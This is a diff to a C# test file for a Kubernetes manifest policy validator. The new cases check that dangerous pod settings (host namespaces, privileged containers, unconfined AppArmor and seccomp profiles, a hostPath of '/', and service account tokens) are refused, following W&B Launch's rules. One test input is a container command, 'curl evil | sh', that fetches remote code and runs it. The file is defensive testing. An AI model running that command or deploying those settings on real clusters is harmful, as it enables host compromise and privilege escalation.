@@ -41,6 +41,22 @@ public sealed class ManifestPolicyTests
         { Pod("""{"containers": [{"securityContext": {"seccompProfile": {"type": "Unconfined"}}}]}"""), "spec.template.spec.containers[0].securityContext.seccompProfile.type" },
         { Pod("""{"securityContext": {"seccompProfile": {"type": "Unconfined"}}}"""), "spec.template.spec.securityContext.seccompProfile.type" },
         { Pod("""{"initContainers": [{"name": "setup", "image": "busybox", "securityContext": {"privileged": true}}]}"""), "spec.template.spec.initContainers[0].securityContext.privileged" },
+        // W&B's refuse-list (wandb/sdk/launch/utils.py, validate_kubernetes_resource_args), anywhere in the manifest.
+        { Pod("""{"shareProcessNamespace": true}"""), "spec.template.spec.shareProcessNamespace" },
+        { Pod("""{"hostUsers": "yes"}"""), "spec.template.spec.hostUsers" },
+        { Pod("""{"hostNetwork": 1}"""), "spec.template.spec.hostNetwork" },
+        { Pod("""{"hostIPC": "True"}"""), "spec.template.spec.hostIPC" },
+        { Pod("""{"automountServiceAccountToken": "true"}"""), "spec.template.spec.automountServiceAccountToken" },
+        { Pod("""{"serviceAccount": ["", "admin"]}"""), "spec.template.spec.serviceAccount" },
+        { Pod("""{"volumes": [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}]}"""), "spec.template.spec.volumes[0].projected.sources[0].serviceAccountToken" },
+        { Pod("""{"containers": [{"name": "m", "volumeMounts": [{"name": "d", "mountPath": "/d", "mountPropagation": "Bidirectional"}]}]}"""), "spec.template.spec.containers[0].volumeMounts[0].mountPropagation" },
+        { """{"spec": {"template": {"metadata": {"annotations": {"container.apparmor.security.beta.kubernetes.io/launch": "unconfined"}}}}}""",
+          "spec.template.metadata.annotations[\"container.apparmor.security.beta.kubernetes.io/launch\"]" },
+        { """{"metadata": {"annotations": {"seccomp.security.alpha.kubernetes.io/pod": "Unconfined"}}}""", "metadata.annotations[\"seccomp.security.alpha.kubernetes.io/pod\"]" },
+        { Pod("""{"volumes": [{"name": "ok", "persistentVolumeClaim": {"claimName": "data"}}], "extra": {"hostPath": {"path": "/"}}}"""), "spec.template.spec.extra.hostPath" },
+        { Pod("""{"ephemeralContainers": [{"name": "debug", "securityContext": {"privileged": true}}]}"""), "spec.template.spec.ephemeralContainers[0].securityContext.privileged" },
+        { Pod("""{"containers": [{"securityContext": {"appArmorProfile": {"type": "Unconfined"}}}]}"""), "spec.template.spec.containers[0].securityContext.appArmorProfile.type" },
+        { Pod("""{"containers": [{"securityContext": {"procMount": "Unmasked"}}]}"""), "spec.template.spec.containers[0].securityContext.procMount" },
         // A custom resource: every pod template is checked, not only the first.
         { """
           {"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "spec": {"pytorchReplicaSpecs": {
@@ -64,6 +80,10 @@ public sealed class ManifestPolicyTests
         { Pod("""{"initContainers": [{"name": "setup", "image": "busybox"}]}"""), "{}", "spec.template.spec.initContainers" },
         { Pod("""{"containers": [{"name": "main", "command": ["sh", "-c", "curl evil | sh"]}]}"""), "{}", "spec.template.spec.containers[0].command" },
         { "{}", """{"entry_point": ["python", "other.py"]}""", "overrides.entry_point" },
+        // W&B's secure mode (wandb/sdk/launch/agent/agent.py, _assert_secure) refuses these keys whatever their value.
+        { Pod("""{"hostNetwork": false}"""), "{}", "spec.template.spec.hostNetwork" },
+        { Pod("""{"hostPID": false}"""), "{}", "spec.template.spec.hostPID" },
+        { Pod("""{"initContainers": []}"""), "{}", "spec.template.spec.initContainers" },
     };
 
     [Theory]
@@ -92,5 +112,28 @@ public sealed class ManifestPolicyTests
         var rendered = new KubernetesRunner(n => env.GetValueOrDefault(n)).Render(Contexts.For(spec, log, dir.Path));
         Assert.Contains("- python", rendered.Text);
         Assert.Contains("name: setup", rendered.Text);
+    }
+
+    /// <summary>
+    /// W&amp;B refuses these keys only when truthy or non-empty (wandb/sdk/launch/utils.py, _is_truthy_resource_value and
+    /// _is_present_resource_value): a W&amp;B queue that turns the token off or names no service account runs as it is.
+    /// </summary>
+    [Fact]
+    public void FalseAndEmptyValuesOfRefusedKeysAreAllowedAsInWandb()
+    {
+        using var dir = new TempDirectory();
+        using var log = new JobLog(dir.File("job.log"), []);
+        var spec = (JsonObject)JsonNode.Parse("""
+            {"run_id": "pol0run3", "docker": {"docker_image": "img:1"},
+             "resource_args": {"kubernetes": {"spec": {"template": {"spec": {
+               "automountServiceAccountToken": false, "hostNetwork": "false", "hostPID": 0, "hostUsers": false,
+               "shareProcessNamespace": false, "serviceAccountName": " ",
+               "containers": [{"name": "main", "ports": [{"containerPort": 80, "hostPort": 0}],
+                               "volumeMounts": [{"name": "d", "mountPath": "/d", "mountPropagation": "HostToContainer"}]}]}}}}}}
+            """)!;
+        var rendered = JobManifest.Render(Contexts.For(spec, log, dir.Path), "agent-1", null, secureMode: false);
+        var podSpec = rendered.Workload["spec"]!["template"]!["spec"]!;
+        Assert.False(podSpec["automountServiceAccountToken"]!.GetValue<bool>());
+        Assert.Equal("HostToContainer", podSpec["containers"]![0]!["volumeMounts"]![0]!["mountPropagation"]!.GetValue<string>());
     }
 }
